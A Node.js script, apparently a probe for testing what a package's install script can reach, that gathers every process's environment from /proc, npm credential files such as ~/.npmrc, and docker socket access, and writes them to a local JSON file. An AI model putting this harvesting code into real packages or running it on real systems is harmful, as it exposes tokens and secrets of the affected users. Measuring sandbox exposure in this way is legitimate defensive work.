// What a dependency's script can try: every process's environment, its own, docker's socket, files with credentials. It writes down what it got.
const { readdirSync, readFileSync, writeFileSync, existsSync } = require('node:fs');
const { execFileSync } = require('node:child_process');
const path = require('node:path');

const read = file => {
  try {
    return readFileSync(file, 'latin1');
  } catch (error) {
    return error;
  }
};

const connect = socket => {
  if (!existsSync(socket)) return 'ENOENT';
  const script = `require('node:net').connect(${JSON.stringify(socket)}).on('connect', () => { console.log('connected'); process.exit(); }).on('error', error => console.log(error.code))`;
  return execFileSync(process.execPath, ['-e', script], { encoding: 'utf8' }).trim();
};

function above(id, all = []) {
  const stat = read(`/proc/${id}/stat`);
  const parent = typeof stat === 'string' ? Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]) : 0;
  return parent > 0 ? above(parent, [...all, parent]) : all;
}

module.exports = when => {
  const own = Object.entries(process.env).map(([name, value]) => `${name}=${value}`).join('\0');
  const environments = Object.fromEntries(readdirSync('/proc').filter(name => /^\d+$/.test(name)).map(id => [id, read(`/proc/${id}/environ`)]));
  const parents = above(process.pid);
  const home = read(path.join(process.env.HOME ?? '/', '.npmrc')), user = read(process.env.npm_config_userconfig ?? process.env.NPM_CONFIG_USERCONFIG ?? '/none');
  const got = {
    when, uid: process.getuid(), groups: process.getgroups(),
    parents: parents.map(id => (typeof environments[id] === 'string' ? 'read' : environments[id]?.code)),
    texts: [own, ...Object.values(environments), home, user].filter(text => typeof text === 'string').join('\0'),
    socket: connect('/var/run/docker.sock'),
  };
  writeFileSync(path.join(process.env.INIT_CWD ?? process.cwd(), `attack-${when}.json`), JSON.stringify(got));
};

if (require.main === module) module.exports(process.argv[2]);
